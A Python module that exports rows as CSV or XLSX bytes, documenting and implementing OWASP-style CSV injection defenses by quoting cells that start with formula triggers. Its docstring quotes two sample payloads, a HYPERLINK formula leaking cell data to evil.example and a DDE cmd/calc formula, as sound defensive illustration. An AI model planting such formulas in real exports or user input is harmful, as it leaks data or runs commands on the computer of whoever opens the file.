"""Rows to CSV and XLSX bytes: the one place the app writes a spreadsheet file, so every export and report is safe.

Why CSV cells are changed and XLSX cells are not (CSV injection, OWASP's "CSV Injection" rule):

- A CSV file carries no types. A spreadsheet program opening it guesses each cell, and a cell starting with ``=``,
  ``+``, ``-`` or ``@`` is taken for a formula (TAB and CR first are treated the same by some of them). A work order
  titled ``=HYPERLINK("http://evil.example?"&A1, "Click")``, or an asset named ``+cmd|' /C calc'!A0``, would run as
  a formula on the computer of whoever opens the export. Anyone who may type a title can plant one, and the person
  opening the file is usually someone else (a planner, an admin).
- So, as OWASP advises, a CSV cell whose text starts with one of ``= + - @ TAB CR`` gets a single quote in front:
  ``'=HYPERLINK(...)``. The program then shows it as text. The quote is visible; that is the accepted price, because
  a CSV cannot say "text" in any other way the programs agree on. The csv module quotes and escapes the rest
  (separators, quotes, line breaks), so a formula cannot start mid-cell after a separator either.
- Only text is neutralised. Numbers (``int``, ``float``, ``Decimal``) are written as they are: ``-3.5`` stays a
  negative number, not ``'-3.5``. Dates, times and booleans cannot start with a trigger. Any other value (an enum,
  a text column holding ``-1``) is text and is checked.
- Text that already starts with quotes followed by a trigger (``'=x``) gets one more quote, so that ``restore``
  (used by the CSV imports) gives back exactly what was exported: an export edited and imported again changes only
  what was edited. A hand-written CSV cell ``'=x`` therefore imports as ``=x``; that is the one ambiguity.
- XLSX cells are typed, so nothing is added there: a text cell is written as text (openpyxl type ``'s'``, which it
  would otherwise make a formula when the text starts with ``=``) and reads back equal to the original string.
  Numbers stay numbers (a ``Decimal`` as a float: Excel has no decimal type), and times with a time zone are written
  in UTC without one (Excel has no time zones).

Files are built in memory: callers stream their rows from the database in batches (``YIELD_PER``), and the XLSX
writer is openpyxl's write-only mode, which streams rows to the file instead of keeping a grid of cells.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Mapping, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from enum import Enum
from typing import Any, Literal

SpreadsheetFormat = Literal['csv', 'xlsx']
CSV_TYPE = 'text/csv; charset=utf-8'
XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
CONTENT_TYPES: dict[str, str] = {'csv': CSV_TYPE, 'xlsx': XLSX_TYPE}
YIELD_PER = 1000  # rows an export reads from the database per batch
# What makes a spreadsheet program read a CSV cell as a formula (OWASP). A tuple, not a string: '' is in every string.
FORMULA_TRIGGERS = ('=', '+', '-', '@', '\t', '\r')
_NUMBERS = (int, float, Decimal)


def neutralise(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet program takes for a formula: a quote in front when it starts with
    a formula trigger (after any quotes it already starts with, so that ``restore`` is its exact inverse)."""
    if text[:1] in FORMULA_TRIGGERS or (text[:1] == "'" and text.lstrip("'")[:1] in FORMULA_TRIGGERS):
        return "'" + text
    return text


def restore(text: str) -> str:
    """The inverse of ``neutralise``, for a CSV cell read back by an import."""
    if text[:1] == "'" and text.lstrip("'")[:1] in FORMULA_TRIGGERS:
        return text[1:]
    return text


def cell_text(value: Any) -> str:
    """A value as plain CSV text: empty for None, enums by value, ISO dates and times, true/false, numbers as
    written (floats without a trailing '.0' when integral)."""
    if value is None:
        return ''
    if isinstance(value, bool):
        return 'true' if value else 'false'
    if isinstance(value, Enum):
        return str(value.value)
    if isinstance(value, date):  # also datetime
        return value.isoformat()
    if isinstance(value, float):
        return str(int(value)) if value.is_integer() else repr(value)
    return str(value)


def csv_cell(value: Any, text_of: Callable[[Any], str] = cell_text) -> str:
    """One CSV cell: the value's text (``text_of``), neutralised unless the value is a number."""
    text = text_of(value)
    if isinstance(value, _NUMBERS) and not isinstance(value, bool):
        return text
    return neutralise(text)


def csv_bytes(
    header: Sequence[str], rows: Iterable[Sequence[Any]], *, text_of: Callable[[Any], str] = cell_text
) -> bytes:
    """A UTF-8 CSV file (with a byte-order mark, CRLF line ends) of the header and rows, every cell through
    ``csv_cell``; ``text_of`` words the values (numbers it words are still never neutralised)."""
    buffer = io.StringIO()
    buffer.write('\ufeff')  # the byte-order mark makes Excel open UTF-8 CSV correctly; the imports strip it
    writer = csv.writer(buffer, lineterminator='\r\n')
    writer.writerow([csv_cell(name, text_of) for name in header])
    writer.writerows([csv_cell(value, text_of) for value in row] for row in rows)
    return buffer.getvalue().encode('utf-8')


def xlsx_bytes(
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    sheet_title: str = 'Sheet1',
    widths: Mapping[str, int] | None = None,
    default_width: int = 14,
) -> bytes:
    """An XLSX workbook of one sheet: a bold, frozen header row, then the rows as typed cells (text always text)."""
    from openpyxl import Workbook  # only needed for spreadsheets
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)  # streams rows to the file instead of building a cell grid in memory
    sheet = workbook.create_sheet(sheet_title)
    for index, name in enumerate(header, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = (widths or {}).get(name, default_width)
    sheet.freeze_panes = 'A2'
    bold = Font(bold=True)
    cells = []
    for name in header:
        cell = _xlsx_cell(sheet, name)
        cell.font = bold
        cells.append(cell)
    sheet.append(cells)
    for row in rows:
        sheet.append([_xlsx_value(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def spreadsheet_bytes(
    fmt: SpreadsheetFormat,
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    text_of: Callable[[Any], str] = cell_text,
    sheet_title: str = 'Sheet1',
    widths: Mapping[str, int] | None = None,
) -> tuple[bytes, str]:
    """(file bytes, content type) of the rows as CSV or XLSX; ``text_of`` words the CSV cells only."""
    if fmt == 'xlsx':
        return xlsx_bytes(header, rows, sheet_title=sheet_title, widths=widths), XLSX_TYPE
    return csv_bytes(header, rows, text_of=text_of), CSV_TYPE


def _xlsx_value(sheet: Any, value: Any) -> Any:
    if isinstance(value, str):
        return _xlsx_cell(sheet, value) if value.startswith('=') else value  # only '=' would become a formula
    if isinstance(value, Enum):
        return _xlsx_value(sheet, value.value)
    if isinstance(value, Decimal):
        return float(value)  # exact for 2-decimal money up to 10^13; Excel has no decimal type
    if isinstance(value, datetime) and value.tzinfo is not None:
        return value.astimezone(UTC).replace(tzinfo=None)  # Excel has no time zones: UTC, as the API gives them
    return value


def _xlsx_cell(sheet: Any, text: str) -> Any:
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = 's'  # text stays text: a title like "=SUM(...)" must never become a formula
    return cell
